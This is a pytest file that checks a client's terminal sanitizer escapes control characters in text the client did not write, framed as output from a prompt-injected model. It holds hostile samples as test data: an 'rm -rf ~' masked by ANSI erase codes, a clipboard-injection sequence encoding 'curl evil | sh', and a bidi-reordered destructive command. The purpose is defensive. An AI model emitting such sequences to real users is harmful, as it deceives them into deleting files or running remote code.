"""Text mm did not write is made inert before a terminal shows it (clients/mm/terminal.py)."""

from __future__ import annotations

import json

import pytest
from mm import terminal

# What a prompt-injected model writes to fool the person or the terminal.
ERASE_AND_REWRITE = "rm -rf ~ #\x1b[2K\r\x1b[32mecho hello"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
C1_CSI = "\x9b2K"  # CSI as one C1 character: obeyed by some terminals
TROJAN = "echo ok \u202e; rm -rf ~ \u2066#\u2069"


@pytest.mark.parametrize("shown", [terminal.text, terminal.code])
def test_no_control_a_terminal_obeys_survives(shown):
    for hostile in (ERASE_AND_REWRITE, CLIPBOARD, C1_CSI, "a\x08\x08b", "\x7f", "\x00\x0b\x0c\x1f"):
        out = shown(hostile)
        assert not any(ord(c) < 32 and c not in "\t\n\r" for c in out), repr(out)
        assert not any(0x7F <= ord(c) <= 0x9F for c in out), repr(out)
    assert shown(CLIPBOARD) == "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"
    assert shown(C1_CSI) == "\\x9b2K"


def test_prose_and_output_keep_their_line_ends_tabs_and_every_other_character():
    plain = "naïve café — 日本語 ✓ 🙂\n\tindented\r\nprogress 10%\rprogress 20%\n"
    assert terminal.text(plain) == plain
    assert terminal.text(TROJAN) == TROJAN  # right-to-left prose may hold them: shown as written


def test_a_command_to_decide_on_shows_carriage_returns_and_reordering_controls_too():
    assert terminal.code(ERASE_AND_REWRITE) == "rm -rf ~ #\\x1b[2K\\x0d\\x1b[32mecho hello"
    assert terminal.code(TROJAN) == "echo ok \\u202e; rm -rf ~ \\u2066#\\u2069"
    assert terminal.code("printf 'a\\tb'\ncat <<EOF\n\tx\nEOF") == "printf 'a\\tb'\ncat <<EOF\n\tx\nEOF"


def test_a_pipe_is_not_given_escapes(capsys):
    terminal.echo(ERASE_AND_REWRITE)  # capsys: not a terminal (click itself drops CSI sequences there)
    out = capsys.readouterr().out
    assert "\\x" not in out and out.endswith("\recho hello\n")
    assert terminal.inert(ERASE_AND_REWRITE, as_code=True) == ERASE_AND_REWRITE


def test_json_text_is_the_same_json_with_nothing_a_terminal_obeys():
    value = {"text": ERASE_AND_REWRITE + CLIPBOARD + C1_CSI + "\x7f café"}
    out = terminal.json_text(value)
    assert json.loads(out) == value
    assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in out)
    assert "café" in out  # non-ASCII text stays readable
